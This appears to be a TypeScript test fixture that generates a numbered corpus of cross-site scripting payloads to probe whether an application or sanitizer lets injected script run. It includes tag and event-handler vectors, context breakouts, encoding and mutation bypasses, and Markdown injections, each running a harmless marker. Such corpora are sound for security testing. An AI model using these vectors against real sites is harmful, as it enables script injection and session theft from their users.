/** What a payload does where it runs: no quotes or brackets, so that it stands in any context. */
const run = (id: number) => `window.planted=${id}`;

/** Ways to get something run, by what stands where the program goes. */
const vectors: ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT >`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script/x>${js}</script/x>`,
  (js) => `<scr<script>ipt>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src="x"/onerror='${js}'/>`,
  (js) => `<img src=x\nonerror\n=\n${js}>`,
  (js) => `<IMG """><img src=x onerror=${js}>"`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload=${js}//`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${js}'/>#x"/></svg>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<math href="javascript:${js}">x</math>`,
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js}>`,
  (js) => `<details open ontoggle=${js}><summary>x</summary></details>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<video src=x onerror=${js}></video>`,
  (js) => `<video><source onerror=${js} src=x></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}" class=planted>x</a>`,
  (js) => `<a href=" &#106;avascript:${js}" class=planted>x</a>`,
  (js) => `<a href="java\tscript:${js}" class=planted>x</a>`,
  (js) => `<a href="\u0001javascript:${js}" class=planted>x</a>`,
  (js) => `<form action="javascript:${js}"><button class=planted>x</button></form>`,
  (js) => `<button formaction="javascript:${js}" form=x class=planted>x</button><form id=x></form>`,
  (js) => `<style onload=${js}></style>`,
  (js) => `<link rel=stylesheet href="data:text/css," onload=${js}>`,
  (js) => `<div style="animation-name:x" onanimationstart=${js}><style>@keyframes x{}</style></div>`,
  (js) => `<div style="width:expression(${js});background:url(javascript:${js})">x</div>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<template><img src=x onerror=${js}></template><img src=x onerror=${js}>`,
  (js) => `<xss onclick=${js} tabindex=1 autofocus onfocus=${js}>x</xss>`,
  (js) => `[x](javascript:${js})`,
  (js) => `[x](java&#115;cript:${js} "t")`,
  (js) => `![x](x"onerror="${js})`,
  (js) => `[x]: javascript:${js}\n\n[x]`,
  (js) => `<javascript:${js}>`,
  (js) => `\`\`\`"onload="${js}\nx\n\`\`\``,
  (js) => `[x](https://x.example/"onmouseover="${js})`,
];

/** What ends the place that a text stands in, before anything of its own begins. */
const ends: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea></title></style></script></select></option>${vector}`,
];

/** Those for places that a vector does not reach: a script's own text, a template, an address. */
const inPlaces: ((js: string) => string)[] = [
  (js) => `";${js}//`,
  (js) => `';${js}//`,
  (js) => `\\";${js}//`,
  (js) => `\`;${js}//`,
  (js) => `\${${js}}`,
  (js) => `"]);${js};([["`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<!--<script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `]]><script>${js}</script>`,
  (js) => `\u2028${js}//`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `{${js}}`,
  (js) => `" onmouseover=${js} autofocus onfocus=${js} x="`,
  (js) => `' onfocus=${js} autofocus x='`,
  (js) => `javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `\u003cscript\u003e${js}\u003c/script\u003e`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
];

/** Over two hundred texts that try to run something, each with its own number. */
export const payloads: string[] = [
  ...ends.flatMap((end) => vectors.map((vector) => (js: string) => end(vector(js)))),
  ...inPlaces,
].map((make, index) => make(run(index + 1)));

/** So many to a text, so that every place meets all of them in a few rounds. */
export function payloadGroups(size: number): string[][] {
  return Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) =>
    payloads.slice(at * size, (at + 1) * size),
  );
}
